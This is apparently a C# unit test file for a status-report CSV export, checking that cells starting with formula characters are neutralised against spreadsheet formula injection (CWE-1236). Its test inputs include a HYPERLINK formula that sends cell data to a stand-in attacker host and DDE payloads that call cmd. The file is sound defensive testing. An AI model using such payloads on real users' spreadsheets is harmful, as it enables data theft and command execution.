using System.Text;
using ProsessLop.Api.Features.StatusReports;
using ProsessLop.Workflow.Definitions;
using ProsessLop.Workflow.Engine;

namespace ProsessLop.Api.Tests.StatusReports;

/// The CSV export carries people's text (participant and region names, risks, reasons) into a
/// spreadsheet: no cell may start a formula there (CWE-1236).
public sealed class StatusExportTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"https://angriper.example/?d=\"&A1;\"Klikk her\")")]
    [InlineData("+47 900 00 000")]
    [InlineData("-2+3+cmd|' /C calc'!A0")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    public void Csv_NeutralisesCellsThatStartAFormula_AndKeepsTheText(string text)
    {
        var rows = StatusReportTests.ParseCsv(Csv(Row(name: text, risk: text, stage: text)));

        Assert.Equal(2, rows.Count);
        Assert.Equal("'" + text, rows[1][0]);
        Assert.Equal("'" + text, rows[1][4]);
        Assert.Equal($"'{text} (12)", rows[1][15]);
    }

    [Fact]
    public void Csv_LeavesOrdinaryTextAndNumbersAlone()
    {
        var rows = StatusReportTests.ParseCsv(Csv(Row(name: "Nord-Fron; Sel", risk: "Nøkkelperson slutter", stage: "Forankring")));

        Assert.Equal("Nord-Fron; Sel", rows[1][0]);
        Assert.Equal("Forankring", rows[1][4]);
        Assert.Equal("Nøkkelperson slutter (12)", rows[1][15]);
        Assert.Equal("3", rows[1][14]);
    }

    private static string Csv(ParticipantStatus row)
    {
        var totals = new StatusTotals(1, 1, 0, [], [], 0, 0, 0, 3, 0);
        var content = new StatusContent("fremtidens-kulturskole", "Fremtidens kulturskole", new DateOnly(2027, 1, 4), null, null, totals, [row], []);
        var report = new StatusReportView(Guid.NewGuid(), "fremtidens-kulturskole", DateTimeOffset.UtcNow, [1], "test", "Test", content);
        var bytes = StatusExport.Csv(report);
        return Encoding.UTF8.GetString(bytes[3..]);
    }

    private static ParticipantStatus Row(string name, string risk, string stage) => new(
        Guid.NewGuid(), ParticipantKind.Region, Guid.NewGuid().ToString(), name, 1, ProgrammeStatus.Active, null, "forankring", stage, Health.OnTrack,
        [new StatusReason("note", "I rute")], null, [], [], [], [], [], 3, [new RiskItem(Guid.NewGuid(), risk, 3, 4, 12)], 0);
}
